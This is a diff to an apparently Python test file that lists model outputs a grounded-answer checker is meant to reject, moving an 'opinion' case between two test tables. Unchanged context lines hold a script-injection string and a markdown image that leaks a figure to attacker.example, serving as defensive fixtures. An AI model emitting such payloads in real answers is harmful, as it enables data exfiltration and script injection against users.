@@ -86,6 +86,7 @@ FALLING = {
     "nothing but its ids": "",
     "a script": "<script>alert('12.4 million euros')</script>",
     "an image": "![The repairs cost 12.4 million euros.](http://attacker.example/?q=12.4)",
+    "an opinion": "The repairs of the Carrow bridge were a waste of 12.4 million euros.",
     "what the evidence does not say": "The repairs of the Carrow bridge were paid by the European Union.",
 }
 
@@ -234,7 +235,6 @@ def test_a_model_that_says_less_has_its_rest_quoted(world: World, openai: Endpoi
 
 
 GAPS = {
-    "an opinion in few words": (COST, "The repairs of the Carrow bridge were a waste of 12.4 million euros."),
     "the figure of other things": (STATIONS, "Le tramway de Vellange compte 14 ponts."),
     "one doer for another's deed": (
         "Who repaired the northern pier of the Carrow bridge?",
